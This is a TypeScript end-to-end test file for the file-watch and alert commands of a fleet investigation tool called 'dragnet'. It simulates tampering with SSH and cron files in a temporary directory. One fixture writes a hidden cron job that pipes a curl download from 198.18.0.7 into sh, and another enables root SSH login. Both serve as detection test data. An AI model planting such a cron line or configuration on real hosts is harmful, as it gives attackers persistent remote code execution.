import { type ChildProcess, spawn } from "node:child_process";
import { mkdirSync, renameSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AgentStatus } from "../../proto/api.js";
import { AGENT_EXE, dragnet, ndjson, requireBuild } from "../helpers/cli.js";
import { eventually, startFleet, type TestFleet, tempDir } from "../helpers/fleet.js";

// Live watches as an investigator uses them: `dragnet drift watch start` on
// an in-process agent and on the real agent executable, changes made to the
// watched tree, and the alerts read back with `dragnet alerts` — stored by
// the coordinator within 2 s of the change, followed live, surviving a
// SIGKILL of the agent, and gone after `watch stop`.

let fleet: TestFleet;
let home: string;
let tree: string;
let exeState: string;
let exe: ChildProcess | undefined;
const EXE_HOST = "watch-exe";

const cli = (args: string[]) => dragnet(["--home", home, ...args]);

async function startExe(): Promise<void> {
  const startedAfter = Date.now();
  exe = spawn(
    AGENT_EXE,
    [
      ...(await fleet.agentExeFlags(exeState)),
      ...["--keyring", fleet.keyringPath, "--hostname", EXE_HOST, "--heartbeat-interval", "500"],
    ],
    { cwd: tempDir("dragnet-empty-"), env: {}, stdio: ["ignore", "ignore", "pipe"] },
  );
  await eventually(async () => {
    const agents = await fleet.api.listAgents(`hostname == "${EXE_HOST}"`);
    return agents.find((a) => a.startedAtMs >= startedAfter && a.status === AgentStatus.AGENT_STATUS_ONLINE);
  }, 15_000);
}

interface AlertJson {
  seq: number;
  receivedAt: string;
  hostname: string;
  watch: string;
  detectedBy: string;
  changes: Array<{ path: string; kind: string; what?: string[]; diff?: string; origin?: string }>;
}

async function alertsSince(sinceIso: string): Promise<AlertJson[]> {
  const r = await cli(["--json", "alerts", "--since", sinceIso]);
  return ndjson(r.stdout) as unknown as AlertJson[];
}

/** The alerts received since `since` once every host in `hosts` reported a change of `path`. */
async function waitForAlerts(since: number, path: string, hosts: string[]): Promise<AlertJson[]> {
  return eventually(async () => {
    const alerts = await alertsSince(new Date(since).toISOString());
    const reported = new Set(
      alerts.filter((a) => a.changes.some((c) => c.path === path)).map((a) => a.hostname),
    );
    return hosts.every((h) => reported.has(h)) ? alerts : undefined;
  }, 10_000);
}

const changesOf = (alerts: AlertJson[], host: string) =>
  alerts
    .filter((a) => a.hostname === host)
    .flatMap((a) => a.changes.map((c) => [c.path.slice(tree.length), c.kind, (c.what ?? []).join(",")]))
    .sort();

beforeAll(async () => {
  requireBuild();
  fleet = await startFleet({ agents: 1 });
  home = fleet.consoleHome();
  tree = tempDir("dragnet-watch-e2e-");
  exeState = tempDir("dragnet-watch-exe-state-");
  mkdirSync(join(tree, "ssh"));
  mkdirSync(join(tree, "cron.d"));
  writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin no\n");
  writeFileSync(join(tree, "cron.d/backup"), "0 3 * * * root /usr/local/bin/backup\n");
  await startExe();
}, 60_000);

afterAll(async () => {
  if (exe && exe.exitCode === null) exe.kill("SIGKILL");
  await fleet?.stop();
});

describe("dragnet drift watch and dragnet alerts", () => {
  let inProcessHost: string;
  let incidentId: string;

  it("installs a watch on every targeted agent and lists it", async () => {
    incidentId = (await fleet.api.openIncident("sshd tampering", "high")).id;
    inProcessHost = (await fleet.api.listAgents()).map((a) => a.hostname).find((h) => h !== EXE_HOST)!;
    const started = await cli([
      "--json",
      "drift",
      "watch",
      "start",
      "-t",
      "all",
      "--path",
      join(tree, "ssh"),
      "--path",
      join(tree, "cron.d"),
      "--name",
      "sshcron",
      // Alerts of this watch go into the incident's notebook.
      "--incident",
      incidentId,
    ]);
    expect(started.code).toBe(0);
    const rows = ndjson(started.stdout);
    expect(rows.map((r) => [(r.agent as { hostname: string }).hostname, r.watch, r.entries]).sort()).toEqual(
      [inProcessHost, EXE_HOST].sort().map((h) => [h, "sshcron", 4]),
    );
    const listed = ndjson((await cli(["--json", "drift", "watch", "list", "-t", "all"])).stdout);
    expect(listed.map((r) => [r.watch, r.paths])).toEqual([
      ["sshcron", [join(tree, "ssh"), join(tree, "cron.d")]],
      ["sshcron", [join(tree, "ssh"), join(tree, "cron.d")]],
    ]);
  });

  it("an edit reaches the coordinator within 2 s on both agents, with its diff; --follow prints it live", async () => {
    const follow = cli(["--json", "alerts", "--follow", "--since", "1m", "--count", "2"]);
    const t0 = Date.now();
    writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin yes\n");
    const alerts = await waitForAlerts(t0, join(tree, "ssh/sshd_config"), [inProcessHost, EXE_HOST]);
    for (const a of alerts) {
      expect(Date.parse(a.receivedAt) - t0).toBeLessThan(2000);
      expect([a.watch, a.detectedBy]).toEqual(["sshcron", "notify"]);
      expect(a.changes[0]!.diff).toContain("-PermitRootLogin no\n+PermitRootLogin yes");
      // The agent asked its package database: no package owns a file in a temporary directory.
      expect(a.changes[0]!.origin).toBe("unowned");
    }
    expect(changesOf(alerts, EXE_HOST)).toEqual([["/ssh/sshd_config", "changed", "content"]]);
    // Both alerts are pages of the incident the watch was installed for.
    const pages = await eventually(async () => {
      const p = (await fleet.api.getIncident(incidentId)).pages.filter((x) => x.kind === "alert");
      return p.length >= 2 ? p : undefined;
    });
    expect(pages.map((p) => JSON.parse(p.content).watch)).toEqual(["sshcron", "sshcron"]);
    const followed = await follow;
    expect(followed.code).toBe(0);
    expect(
      ndjson(followed.stdout)
        .map((a) => a.hostname)
        .sort(),
    ).toEqual([inProcessHost, EXE_HOST].sort());
  });

  it("reports a rename and a file created in a new subdirectory", async () => {
    const t0 = Date.now();
    renameSync(join(tree, "cron.d/backup"), join(tree, "cron.d/backup.disabled"));
    mkdirSync(join(tree, "cron.d/hidden"));
    writeFileSync(join(tree, "cron.d/hidden/job"), "* * * * * root curl -s http://198.18.0.7/x | sh\n");
    const alerts = await eventually(async () => {
      const got = await alertsSince(new Date(t0).toISOString());
      return changesOf(got, EXE_HOST).length >= 4 ? got : undefined;
    });
    expect(changesOf(alerts, EXE_HOST)).toEqual([
      ["/cron.d/backup", "removed", ""],
      ["/cron.d/backup.disabled", "added", ""],
      ["/cron.d/hidden", "added", ""],
      ["/cron.d/hidden/job", "added", ""],
    ]);
    // Filtered by target: only the executable's alerts.
    const filtered = ndjson(
      (
        await cli([
          "--json",
          "alerts",
          "-t",
          `hostname == "${EXE_HOST}"`,
          "--since",
          new Date(t0).toISOString(),
        ])
      ).stdout,
    );
    expect(new Set(filtered.map((a) => a.hostname))).toEqual(new Set([EXE_HOST]));
  });

  it("survives a SIGKILL of the agent: a change made while it was down is reported when it is back, and watching goes on", async () => {
    const exited = new Promise((r) => exe!.once("exit", r));
    exe!.kill("SIGKILL");
    await exited;
    const t0 = Date.now();
    writeFileSync(join(tree, "ssh/sshd_config"), "Port 2222\nPermitRootLogin yes\n");
    await startExe();
    const missed = await waitForAlerts(t0, join(tree, "ssh/sshd_config"), [EXE_HOST]);
    const fromExe = missed.filter((a) => a.hostname === EXE_HOST);
    expect(fromExe.map((a) => a.detectedBy)).toEqual(["restart"]);
    const t1 = Date.now();
    writeFileSync(join(tree, "cron.d/backup.disabled"), "edited after the restart\n");
    const live = await waitForAlerts(t1, join(tree, "cron.d/backup.disabled"), [EXE_HOST]);
    const again = live.filter((a) => a.hostname === EXE_HOST);
    expect(again.map((a) => a.detectedBy)).toEqual(["notify"]);
    expect(Date.parse(again[0]!.receivedAt) - t1).toBeLessThan(2000);
  });

  it("stop removes the watch: no alert afterwards; the table view shows changes and diffs", async () => {
    const table = await cli(["alerts", "--since", "10m", "-t", `hostname == "${EXE_HOST}"`]);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/seen by/);
    expect(table.stdout).toContain("+PermitRootLogin yes");
    const stopped = await cli(["--json", "drift", "watch", "stop", "-t", "all", "--name", "sshcron"]);
    expect(stopped.code).toBe(0);
    expect(ndjson(stopped.stdout).map((r) => r.watch)).toEqual(["sshcron", "sshcron"]);
    const t0 = Date.now();
    writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\n");
    await new Promise((r) => setTimeout(r, 1500));
    expect(await alertsSince(new Date(t0).toISOString())).toEqual([]);
    const none = await cli(["--json", "drift", "watch", "list", "-t", "all"]);
    expect([none.code, none.stdout]).toEqual([1, ""]);
  });
});
